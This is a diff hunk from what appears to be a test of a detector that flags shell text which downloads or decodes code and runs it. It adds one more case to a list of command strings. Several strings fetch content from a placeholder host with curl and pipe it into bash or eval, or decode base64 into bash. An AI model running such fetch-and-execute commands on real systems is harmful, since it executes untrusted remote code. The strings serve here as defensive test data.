@@ -81,6 +81,7 @@ def test_literal_text_that_is_decoded_and_runs(text: str):
         'x=$(curl https://a.b/x)\necho "$sum  $x" | sha256sum -c\neval "$x"',
         'eval "$x"\nx=$(curl https://a.b/x)',
         "curl https://a.b/x | (cd y; cat)",
+        "cat y | (curl https://a.b/x; bash)",
         "(curl https://a.b/x > y; bash z) | bash -n z",
         'echo "$KEY" | base64 -d | bash',
         "echo ZWNobw== | base64 -d > x",
